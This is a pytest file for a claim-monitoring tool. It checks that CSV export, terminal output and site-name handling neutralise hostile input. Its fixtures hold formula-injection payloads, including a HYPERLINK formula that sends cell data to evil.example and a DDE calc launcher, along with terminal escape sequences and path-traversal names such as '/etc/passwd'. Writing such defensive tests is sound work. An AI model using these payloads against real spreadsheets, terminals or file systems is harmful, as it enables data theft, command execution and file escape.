"""Untrusted page text and stored names reach spreadsheets, terminals and file names safely (docs/security.md):
CSV cells never start a formula, table and text outputs carry no terminal escapes, site names never
become a path outside the data folder."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from report_fixtures import add_change, add_event, add_page, add_site, add_snapshot, make_database

from monitor.config import load_settings
from monitor.crawl import prepare_crawl
from monitor.db import make_engine, make_session_factory
from monitor.export import spreadsheet_cell
from monitor.models import Outbox
from monitor.terminal import for_terminal, one_line

NOW = datetime(2024, 5, 1, 6, 0, tzinfo=UTC)
# what a terminal would act on: C0 controls but tab/newline, DEL, C1 controls (ESC is \x1b, in C0)
CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
HOSTILE = ("Cures arthritis\x1b[2J\x1b]0;pwned\x07 fast\n"
           "high      added     claim/disease    forged-row  https://forged.example/\x9b31m\r")

FORMULAS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"refund\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", FORMULAS)
def test_spreadsheet_cell_neutralises_every_formula_start(value: str) -> None:
    assert spreadsheet_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Supports joints.", "", "{\"days\": 90}", "90-day guarantee", 200, None])
def test_spreadsheet_cell_leaves_other_cells_alone(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_csv_export_has_no_formula_cells_and_json_keeps_the_text(run_cli, sqlite_url: str,
                                                                   tmp_path: Path) -> None:
    sessions = make_database(tmp_path / "claimwatch.db")
    with sessions.begin() as session:
        site = add_site(session, "=cmd")  # a name stored before names were validated
        page = add_page(session, site, "https://shop.example/p", when=NOW)
        add_snapshot(session, page, when=NOW, statements=[("claim", "disease", text) for text in
                                                          [*FORMULAS, "Plain claim."]])

    exported = run_cli("export", "--format", "csv", db=sqlite_url)
    assert exported.exit_code == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert [row["text"] for row in rows] == ["'" + text for text in FORMULAS] + ["Plain claim."]
    assert {row["site"] for row in rows} == {"'=cmd"}
    assert [row["position"] for row in rows] == [str(i) for i in range(len(FORMULAS) + 1)]
    assert {row["status"] for row in rows} == {"200"}

    document = json.loads(run_cli("export", "--format", "json", db=sqlite_url).stdout)
    assert [s["text"] for s in document["pages"][0]["statements"]] == [*FORMULAS, "Plain claim."]


@pytest.fixture
def hostile_db(tmp_path: Path, sqlite_url: str) -> str:
    """Page text, an event detail, a legacy site name and an outbox row full of terminal escapes."""
    sessions = make_database(tmp_path / "claimwatch.db")
    with sessions.begin() as session:
        site = add_site(session, "evil\x1b]0;owned\x07site", ["ana@agency.example"])
        page = add_page(session, site, "https://shop.example/p\x1b[8m", when=NOW - timedelta(days=1))
        before = add_snapshot(session, page, when=NOW - timedelta(days=1),
                              statements=[("claim", "structure_function", "Supports joints.")])
        after = add_snapshot(session, page, when=NOW, statements=[("claim", "disease", HOSTILE)])
        add_change(session, page, before, after, when=NOW, change="modified", kind="claim", type="disease",
                   severity="high", before_text="Supports joints.", after_text=HOSTILE)
        add_event(session, page, "error", "HTTP 500\x1b[31m\x1b]8;;https://evil.example\x1b\\click", when=NOW)
        session.add(Outbox(kind="digest", subject="Digest\x1b]0;owned\x07: 1 change\x9b2J",
                           recipients=["ana@agency.example"], message=b"", message_id="<1@test>", status="failed",
                           last_error="550 rejected\x1b]8;;https://evil.example\x1b\\here\x07\r", next_attempt_at=NOW))
    return sqlite_url


@pytest.mark.parametrize(("text", "shown"), [
    ("red \x1b[31mALERT\x1b[0m", "red ALERT"),  # CSI (click strips only these, and only when not a tty)
    ("title\x1b]0;owned\x07 set", "title set"),  # OSC ending in BEL
    ("\x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ text", "link text"),  # OSC 8 hyperlink, ST
    ("one-byte \x9b2J CSI", "one-byte 2J CSI"),  # C1 controls
    ("bell\x07 nul\x00 del\x7f back\x08space", "bell nul del backspace"),
    ("carriage\roverwrite", "carriageoverwrite"),
    ("tab\tand\nnewline", "tab\tand\nnewline"),  # kept by for_terminal, made spaces by one_line
    ("unterminated \x1b]0;title\nnext line", "unterminated \nnext line"),  # an OSC never eats the next line
])
def test_for_terminal_removes_escape_sequences_and_controls(text: str, shown: str) -> None:
    assert for_terminal(text) == shown
    assert one_line(text) == " ".join(shown.split())


@pytest.mark.parametrize("argv", [
    ("changes", "--format", "table"),
    ("sites", "list"),
    ("status",),
    ("outbox", "list"),
    ("report", "--format", "text", "--since", "2024-01-01"),
    ("report", "--format", "html", "--since", "2024-01-01"),
], ids=" ".join)
def test_table_and_text_outputs_carry_no_terminal_escapes(run_cli, hostile_db: str, argv: tuple[str, ...]) -> None:
    result = run_cli(*argv, db=hostile_db)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.strip()
    assert not CONTROL.findall(result.stdout), CONTROL.findall(result.stdout)
    assert "evilsite" in result.stdout or "Digest" in result.stdout or "Cures arthritis" in result.stdout


def test_changes_table_keeps_each_change_on_its_own_lines(run_cli, hostile_db: str) -> None:
    table = run_cli("changes", "--format", "table", db=hostile_db).stdout
    # the newline inside the page text must not forge a row of its own
    assert not any(line.startswith("high      added") for line in table.splitlines())
    assert "+ Cures arthritis fast high added" in table
    # the JSON contract keeps the data as stored (JSON escapes control characters itself)
    changes = json.loads(run_cli("changes", "--format", "json", db=hostile_db).stdout)["changes"]
    assert changes[0]["after"] == HOSTILE


NAMES_OUT = ["../../x", "../escape", "/etc/passwd", "a/b", "..", ".hidden", "-flag", "with space",
             "tab\tname", "esc\x1b[2J", "x" * 65, "naïve"]


@pytest.mark.parametrize("name", NAMES_OUT, ids=repr)
def test_sites_add_refuses_unsafe_names(run_cli, sqlite_url: str, name: str) -> None:
    assert run_cli("init", db=sqlite_url).exit_code == 0
    result = run_cli("sites", "add", "--url", "https://x.example/", "--", name, db=sqlite_url)
    assert result.exit_code != 0
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1 and "field 'name': not a valid site name" in lines[0], result.stderr
    assert json.loads(run_cli("sites", "list", "--format", "json", db=sqlite_url).stdout)["sites"] == []


@pytest.mark.parametrize("name", ["acme", "example-seller", "shop_2", "shop.example", "A1", "x" * 64])
def test_sites_add_accepts_slugs(run_cli, sqlite_url: str, name: str) -> None:
    assert run_cli("init", db=sqlite_url).exit_code == 0
    result = run_cli("sites", "add", name, "--url", "https://x.example/", db=sqlite_url)
    assert result.exit_code == 0, result.stderr


def test_crawl_log_of_a_legacy_unsafe_name_stays_in_the_data_folder(tmp_path: Path) -> None:
    sessions = make_database(tmp_path / "claimwatch.db")
    with sessions.begin() as session:
        add_site(session, "../../../escape")  # written before names were validated
    data = tmp_path / "deep" / "data"
    settings = load_settings({"CLAIMWATCH_DATA": str(data)}, db_url=f"sqlite:///{tmp_path / 'claimwatch.db'}",
                             cwd=tmp_path)
    engine = make_engine(settings.db_url)
    try:
        job = prepare_crawl(make_session_factory(engine), settings, "../../../escape")
    finally:
        engine.dispose()
    for path in (job.log_path, job.plan_path):
        assert path.resolve().is_relative_to(data.resolve()), path
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to(data.resolve()) or p.name.startswith("claimwatch.db") for p in written), \
        written
